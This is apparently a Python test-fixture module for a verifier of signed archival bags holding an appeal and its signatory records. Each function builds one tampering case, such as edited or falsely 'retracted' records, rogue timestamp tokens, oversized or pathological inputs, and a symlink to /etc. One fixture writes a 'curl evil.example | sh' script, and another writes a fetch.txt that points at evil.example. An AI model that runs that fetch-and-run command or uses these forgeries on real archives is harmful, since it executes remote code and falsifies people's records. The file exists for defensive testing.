def identifier_1e400(build: Path, pki) -> Path:
    return _edited_identifier(build, "1e400")


def identifier_lone_surrogate(build: Path, pki) -> Path:
    return _edited_identifier(build, '"\\ud800"')


def deep_json_bundle(build: Path, pki) -> Path:
    return _resigned_bundle(build, DEEP_JSON)


def deep_json_manifest_beside_bundle(build: Path, pki) -> Path:
    (build / "manifest.json").write_bytes(DEEP_JSON)
    return bundle_of(build)


def _restamped_bundle(bundle: Path, fixed_dt: datetime | None) -> Path:
    signature = bundle.with_name(bundle.name + ".p7s")
    signature.write_bytes(_restamped(signature.read_bytes(), fixed_dt))
    return bundle


def trailing_bytes_after_bundle_signature(build: Path, pki) -> Path:
    """Bytes after the DER signature in the .p7s, which a lenient parser ignores."""
    bundle = bundle_of(build)
    signature = bundle.with_name(bundle.name + ".p7s")
    signature.write_bytes(signature.read_bytes() + b"\x00 anything at all")
    return bundle


def rogue_token_in_bundle_signature(build: Path, pki) -> Path:
    return _restamped_bundle(bundle_of(build), None)


def backdated_token_in_bundle_signature(build: Path, pki) -> Path:
    return _restamped_bundle(bundle_of(build), datetime(2020, 1, 1, tzinfo=UTC))


# --- the bag ------------------------------------------------------------------------------------------


def rebagged_rogue_token(build: Path, pki) -> Path:
    bag = bag_of(build)
    _restamped_bundle(bag / "data" / f"{NAME}.jsonld", None)
    rebag(bag)
    return bag


def rebagged_retraction(build: Path, pki) -> Path:
    bag = bag_of(build)
    (bag / "data" / "statement.txt").write_text("The signatories retracted this appeal.\n")
    rebag(bag)
    return bag


def rebagged_script_among_records(build: Path, pki) -> Path:
    bag = bag_of(build)
    (bag / "data" / "records" / "persons" / "install.sh").write_text("#!/bin/sh\ncurl evil.example | sh\n")
    rebag(bag)
    return bag


def rebagged_huge_file(build: Path, pki) -> Path:
    bag = bag_of(build)
    with open(bag / "data" / "records" / "sources" / "huge.txt", "wb") as handle:
        handle.truncate(1 << 30)  # a sparse gigabyte: what costs nothing to make and a lot to hash
    return bag


def rebagged_source_organization(build: Path, pki) -> Path:
    bag = bag_of(build)
    info = bag / "bag-info.txt"
    info.write_text(re.sub(r"Source-Organization: .*", "Source-Organization: Ministry of Truth", info.read_text()))
    rebag(bag)
    return bag


def rebagged_crate_claiming_other_files(build: Path, pki) -> Path:
    """The bag's RO-Crate metadata edited to describe a file that is not there, with the bag's manifests made
    again: the crate is no signed file, so what it says must be what a build makes of the signed ones."""
    bag = bag_of(build)
    crate = bag / "data" / "ro-crate-metadata.json"
    crate.write_text(crate.read_text().replace('"name": "manifest.json"', '"name": "retraction.pdf"', 1))
    rebag(bag)
    return bag


def rebagged_extra_info_field(build: Path, pki) -> Path:
    bag = bag_of(build)
    info = bag / "bag-info.txt"
    info.write_text(info.read_text() + "Internal-Sender-Description: retracted by the signatories\n")
    rebag(bag)
    return bag


def rebagged_edited_record(build: Path, pki) -> Path:
    bag = bag_of(build)
    person = bag / "data/records/persons/pavel-latushka.yaml"
    person.write_text(person.read_text().replace("Pavel Latushka", "Paul Latushka", 1))
    rebag(bag)
    return bag


def rebagged_bundle_byte_and_record(build: Path, pki) -> Path:
    """One byte of the bag's signed bundle and one record file changed, the bag's manifests made anew: above
    2,000 records this verified, with 5 files checked (found by an archivist, issue 17)."""
    bag = bag_of(build)
    bundle = bag / "data" / bundle_of(build).name
    data = bytearray(bundle.read_bytes())
    data[len(data) // 2] ^= 0x01
    bundle.write_bytes(bytes(data))
    record = bag / "data" / "records" / "persons" / "pavel-latushka.yaml"
    record.write_text(record.read_text().replace("Pavel Latushka", "Pavel Latushka (withdrew)", 1))
    rebag(bag)
    return bag


def deep_json_manifest_in_bag(build: Path, pki) -> Path:
    bag = bag_of(build)
    (bag / "data" / "manifest.json").write_bytes(DEEP_JSON)
    rebag(bag)
    return bag


def empty_folder_in_bag(build: Path, pki) -> Path:
    """A folder whose name says what no file in the bag does, and nothing in it (found by a tester)."""
    bag = bag_of(build)
    (bag / "data" / "records" / "persons" / "RETRACTED-BY-ALL-SIGNATORIES").mkdir()
    return bag


def extra_line_in_bagit_txt(build: Path, pki) -> Path:
    bag = bag_of(build)
    with open(bag / "bagit.txt", "a") as handle:
        handle.write("Note: this bag was amended\n")
    rebag(bag)
    return bag


def long_line_in_bagit_txt(build: Path, pki) -> Path:
    """One line of 60 MB in bagit.txt: bagit's decoder takes quadratic time over it (14 minutes, found by a
    tester)."""
    bag = bag_of(build)
    with open(bag / "bagit.txt", "a") as handle:
        handle.write("Foo: " + "X" * (60 << 20) + "\n")
    return bag


def bag_info_line_without_colon(build: Path, pki) -> Path:
    bag = bag_of(build)
    with open(bag / "bag-info.txt", "a") as handle:
        handle.write("a line with no colon\n")
    return bag


def fifo_signature_in_bag(build: Path, pki) -> Path:
    bag = bag_of(build)
    signature = bag / "data" / f"{NAME}.jsonld.p7s"
    signature.unlink()
    os.mkfifo(signature)
    return bag


def rebagged_manifest_with_duplicate_keys(build: Path, pki) -> Path:
    """A manifest whose first keys say something else than the last ones, which Python's parser keeps."""
    bag = bag_of(build)
    manifest = bag / "data" / "manifest.json"
    text = manifest.read_text(encoding="utf-8")
    manifest.write_text('{\n  "root": "' + "0" * 64 + '",\n  "records": [],' + text[1:], encoding="utf-8")
    rebag(bag)
    return bag


def cut_manifest_beside_bundle(build: Path, pki) -> Path:
    manifest = build / "manifest.json"
    data = json.loads(manifest.read_text())
    data["records"], data["source_documents"] = data["records"][:3], []
    manifest.write_bytes((json.dumps(data, indent=2, ensure_ascii=False) + "\n").encode())
    return bundle_of(build)


def symlink_in_bag(build: Path, pki) -> Path:
    bag = bag_of(build)
    os.symlink("/etc", bag / "data" / "records" / "etc")
    return bag


def fetch_txt_in_bag(build: Path, pki) -> Path:
    bag = bag_of(build)
    (bag / "fetch.txt").write_text("https://evil.example/statement.txt 42 data/statement.txt\n")
    return bag


ATTACKS = {name: value for name, value in globals().items() if callable(value) and not name.startswith("_")
           and name not in {"pdf_of", "bundle_of", "bag_of", "rebag", "resigned", "resigned_pdf", "attacker_material",
                            "replacing", "unsigned_copy"}
           and value.__module__ == __name__}


def describe(attack: str) -> str:
    return json.dumps(attack)
